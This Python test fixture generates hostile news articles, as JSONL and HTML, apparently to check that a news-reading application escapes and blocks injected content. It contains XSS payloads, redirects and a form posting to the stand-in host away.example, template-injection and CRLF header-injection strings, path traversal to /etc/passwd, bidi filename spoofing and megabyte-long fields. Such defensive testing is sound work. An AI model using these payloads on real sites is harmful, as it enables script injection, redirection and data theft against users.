"""A story as somebody would write it who wants the desk to run, load, send or show what it should not."""

from __future__ import annotations

import json
from collections.abc import Iterator
from html import escape
from pathlib import Path

AWAY = "away.example"
"""The host that every payload wants to reach."""

PAYLOADS = [
    "<script>window.ran=1;alert(1)</script>",
    '"><svg onload="window.ran=1;alert(1)"><a xlink:href="javascript:alert(1)">',
    "' onmouseover='window.ran=1' autofocus onfocus='window.ran=1' x='",
    f'</title></script><meta http-equiv="refresh" content="0;url=http://{AWAY}/moved">',
    f"</style><link rel=stylesheet href=http://{AWAY}/x.css><style>*{{display:none}} body{{background:url(http://{AWAY}/b)}}</style>",
    f'<img src="http://{AWAY}/pixel.gif" onerror="window.ran=1"><iframe src="http://{AWAY}/frame"></iframe>',
    f'<base href="http://{AWAY}/"><form action="http://{AWAY}/take"><button>Search</button></form>',
    "{{7*7}}${7*7}#{7*7}{% raw %}{{ request }}<%= 7*7 %>",
    "--><!--<![CDATA[]]>]]>&lt;script&gt;&#60;script&#62;alert(1)</textarea></select></template>",
    "\x00\x08\x1b[31m\x1b]0;title\x07\x7f\x9b",
    "\u202egpj.exe\u202d \u2066\u2067\u2068 \u200f",
    "Z" + "\u0301\u0316\u0489" * 400,
    "\r\nSet-Cookie: planted=1\r\n\r\n<script>window.ran=1</script>",
    f"javascript:window.ran=1//http://{AWAY}/",
    "../../../../etc/passwd?x=1&y=2#z%00%2e%2e%2f",
]
ADDRESSES = [
    "javascript:window.ran=1",
    "JaVaScRiPt:alert(1)//https://news.example/",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    'https://news.example/"onclick="window.ran=1"x="',
    "https://news.example/<script>window.ran=1</script>",
    f"http://{AWAY}/\u202e/moc.elpmaxe",
    "file:///etc/passwd",
    "//" + AWAY,
]
STORY = """The ministers of Norland and Sudland, Aino Salo and Bo Lind, will meet in Turku on Friday, {outlet} reported, citing {who}.

"We will meet in Turku on Friday," Salo told reporters. {payload}

Two officials who were not named said the meeting may be moved to Oulu. At least {number} people were injured in protests in Turku, police said.

{payload} is what {who} of {payload} said on Thursday, adding: "{payload}"."""


def pages(folder: Path) -> list[str]:
    """Write the pages into a folder, as JSONL and as HTML; give the files."""
    lines = folder / "hostile.jsonl"
    lines.write_text("".join(f"{json.dumps(page)}\n" for page in _lines()), encoding="utf-8")
    html = []
    for number, payload in enumerate(PAYLOADS):
        path = folder / f"hostile-{number}.html"
        path.write_text(_html(payload, ADDRESSES[number % len(ADDRESSES)], number), encoding="utf-8", errors="replace")
        html.append(str(path))
    return [str(lines), *html]


def _lines() -> Iterator[dict[str, str]]:
    for number, payload in enumerate(PAYLOADS):
        yield {
            "id": f"h{number} {payload[:60]}",
            "url": ADDRESSES[number % len(ADDRESSES)],
            "outlet": f"{payload[:80]} Post",
            "title": f"Salo and Lind to meet in Turku {payload}",
            "body": _story(payload, number),
            "published": f"2025-03-{10 + number % 5}",
            "lang": f"en{payload[:20]}",
        }
    # Not read, and so kept whole: a headline and names of a megabyte.
    german = "Die Minister Salo und Lind treffen sich am Freitag in Turku, sagte ein Sprecher der Regierung am Montag. "
    yield {
        "id": "long",
        "title": "<b>" + "W" * 1_000_000,
        "outlet": "O" * 100_000,
        "body": german * 20,
        "published": "2025-03-12",
        "lang": "de",
    }
    yield {
        "id": "..",
        "title": "T" * 1_000_000,
        "outlet": "Two Dots Post",
        "body": _story("x", 3),
        "published": "2025-03-15",
    }


def _story(payload: str, number: int) -> str:
    return STORY.format(outlet=f"{payload[:40]} Post", who=f"Dr {payload[:40]}", payload=payload, number=10 + number)


def _html(payload: str, address: str, number: int) -> str:
    said = "".join(f"<p>{escape(paragraph)}</p>" for paragraph in _story(payload, number).split("\n\n"))
    return f"""<!doctype html><html lang="en" onclick="window.ran=1"><head><title>{escape(payload)} talks</title>
<meta property="og:site_name" content="{escape(payload, quote=True)} Times">
<meta property="article:published_time" content="2025-03-{10 + number % 5}T08:00:00Z">
<meta http-equiv="refresh" content="0;url=http://{AWAY}/"><base href="http://{AWAY}/">
<link rel="canonical" href="{escape(address, quote=True)}"><link rel="stylesheet" href="http://{AWAY}/x.css">
<script type="application/ld+json">{json.dumps({"@type": "NewsArticle", "headline": payload, "author": {"name": payload}})}</script>
<style>* {{ display: none }}</style></head><body onload="window.ran=1">
<article><h1>{escape(payload)} talks in Turku</h1><p class="byline">By {escape(payload[:60])}</p>{said}
<svg onload="window.ran=1"></svg>{payload}</article>
<aside><h2>Related</h2><a href="{escape(address, quote=True)}">{escape(payload)} and more of it that is longer than a word</a></aside>
</body></html>"""
